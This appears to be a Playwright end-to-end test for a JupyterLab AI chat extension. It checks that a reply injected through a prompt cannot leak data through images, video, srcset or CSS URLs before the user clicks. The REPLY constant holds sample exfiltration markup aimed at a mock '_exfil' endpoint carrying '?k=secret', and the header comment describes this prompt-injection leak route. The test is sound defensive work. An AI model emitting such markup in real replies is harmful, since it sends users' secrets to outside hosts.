import { expect, test } from '@jupyterlab/galata';
import type { Page } from '@playwright/test';
import { MOCK, openChat, resetMock, scriptMock, sendMessage } from './helpers';

/**
 * A prompt-injected reply tries to send data out through URLs the page would
 * fetch by itself. The browser talks to the mock's origin (127.0.0.1:8765)
 * only through the Jupyter server's proxy, so any page request to that origin
 * is such a leak: none may happen before the user clicks a placeholder.
 */
const LEAK = `${MOCK}/_exfil.png?k=secret`;
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64'
);

const REPLY = [
  'The summary is ready.',
  '',
  `![chart](${LEAK})`,
  '',
  `![inline](data:image/png;base64,${PNG.toString('base64')})`,
  '',
  `<img alt="raw" src="${MOCK}/_exfil-raw.png?k=secret" srcset="${MOCK}/_exfil-2x.png?k=secret 2x">`,
  '',
  `<video controls poster="${MOCK}/_exfil-poster.png?k=secret" src="${MOCK}/_exfil.mp4?k=secret"></video>`,
  '',
  `<p style="background: url(${MOCK}/_exfil-bg.png?k=secret)">Styled</p>`,
  '',
  'See [the docs](https://example.com/docs?k=secret).'
].join('\n');

/** Every request the page makes to the mock's origin (none is legitimate). */
function watchLeaks(page: Page): string[] {
  const seen: string[] = [];
  page.on('request', request => {
    if (request.url().startsWith(MOCK)) {
      seen.push(request.url());
    }
  });
  return seen;
}

test.describe('Rendered replies send nothing out without a click', () => {
  test.beforeEach(async ({ request }) => {
    await resetMock(request);
  });

  test('remote images, media and CSS urls wait for a click; data: images show', async ({
    page,
    request
  }) => {
    const seen = watchLeaks(page);
    // Answer a loaded image ourselves, so it shows whatever the mock serves.
    await page.route(
      url => url.href.startsWith(`${MOCK}/_exfil`),
      route =>
        route.fulfill({ status: 200, contentType: 'image/png', body: PNG })
    );
    await scriptMock(request, [
      { blocks: [{ type: 'text', text: REPLY }], chunk_size: 16, delay_ms: 15 }
    ]);
    await openChat(page);
    await sendMessage(page, 'Summarise the orders table');

    const reply = page.locator('.jp-DataEngineer-assistant').last();
    await expect(reply).toHaveAttribute('data-status', 'done', {
      timeout: 30000
    });
    const placeholders = reply.locator('.jp-DataEngineer-blockedContent');
    await expect(placeholders).toHaveCount(3); // the markdown image, the raw <img>, the <video>
    await expect(placeholders.first()).toContainText('127.0.0.1:8765');
    await expect(reply.locator('img[src^="data:image/png"]')).toHaveCount(1);
    await expect(reply.locator('p', { hasText: 'Styled' })).toBeVisible();

    // Nothing went out while the reply streamed and rendered (give a late fetch time to show).
    await page.waitForTimeout(1500);
    expect(seen).toEqual([]);

    // The link opens only on click, in a new tab, without opener or referrer.
    const link = reply.locator('a', { hasText: 'the docs' });
    await expect(link).toHaveAttribute('target', '_blank');
    const rel = ((await link.getAttribute('rel')) ?? '').split(/\s+/);
    expect(rel).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));

    // One click loads exactly that image.
    await placeholders.first().click();
    const image = reply.locator(`img[src="${LEAK}"]`);
    await expect(image).toHaveCount(1);
    await expect.poll(() => seen.slice()).toEqual([LEAK]);
    await expect
      .poll(() => image.evaluate(el => (el as HTMLImageElement).naturalWidth))
      .toBe(1);
    await expect(placeholders).toHaveCount(2);
    await page.waitForTimeout(500);
    expect(seen).toEqual([LEAK]);
  });
});
